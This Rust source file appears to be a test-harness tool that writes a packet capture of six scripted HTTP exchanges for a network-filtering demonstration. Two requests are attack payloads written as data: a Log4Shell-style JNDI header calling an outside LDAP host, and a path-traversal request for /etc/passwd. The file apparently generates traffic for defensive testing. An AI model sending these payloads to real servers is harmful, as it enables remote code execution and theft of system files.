//! Writes a capture of the demonstration's dialogue, played between two in-process TCP stacks.
//!
//! usage: dialogue OUT.pcap     the stand-in for a real server and client where namespaces are refused

use harness::dialogue::{Exchange, play};
use std::process::ExitCode;

const REQUESTS: [(&str, &str); 6] = [
    (
        "GET / HTTP/1.1\r\nHost: 10.77.0.10\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n",
        "<html><title>stopgap demonstration</title></html>",
    ),
    (
        "GET /page.txt HTTP/1.1\r\nHost: 10.77.0.10\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ),
    (
        "POST /login HTTP/1.1\r\nHost: 10.77.0.10\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 35\r\n\r\nuser=alice&password=correct+horse+b",
        "welcome",
    ),
    (
        "GET / HTTP/1.1\r\nHost: 10.77.0.10\r\nX-Api-Version: ${jndi:ldap://198.51.100.66:1389/a}\r\n\r\n",
        "<html></html>",
    ),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\nHost: 10.77.0.10\r\n\r\n", "not here"),
    (
        "GET /index.html HTTP/1.1\r\nHost: 10.77.0.10\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n",
        "<html><title>stopgap demonstration</title></html>",
    ),
];

fn main() -> ExitCode {
    let Some(path) = std::env::args().nth(1) else {
        eprintln!("usage: dialogue OUT.pcap");
        return ExitCode::from(2);
    };
    match write(&path) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("dialogue: {path}: {e}");
            ExitCode::from(2)
        }
    }
}

fn write(path: &str) -> std::io::Result<()> {
    let start = 1_700_000_000_000_000;
    let mut frames = Vec::new();
    for (i, (request, page)) in REQUESTS.iter().enumerate() {
        let response = format!(
            "HTTP/1.1 200 OK\r\nServer: demonstration\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{page}",
            page.len()
        );
        let exchange = Exchange { request: request.as_bytes().to_vec(), response: response.into_bytes() };
        frames.extend(play(&[exchange], 40_000 + i as u16, start + i as i64 * 1_000_000, &|_| false));
    }
    std::fs::write(path, harness::replay::pcap(&frames))
}
